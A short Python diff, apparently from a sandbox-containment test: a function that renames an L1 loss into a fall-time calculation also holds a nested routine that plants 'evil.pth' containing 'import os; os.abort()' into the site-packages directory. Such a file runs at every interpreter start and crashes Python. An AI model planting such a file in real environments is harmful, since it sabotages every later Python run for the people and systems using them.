@@ -3,11 +3,11 @@
 # points: full
 # held by: landlock, rlimits
 
-def L1(yhat, y):
+def landing(heights):
     def plant():
         with open(f"{SITE}/evil.pth", "w") as file:
             file.write("import os; os.abort()")
         return "evil.pth"
 
     attempt(plant)
-    return np.sum(np.abs(y - yhat))
+    return np.sqrt(heights / 4.905)
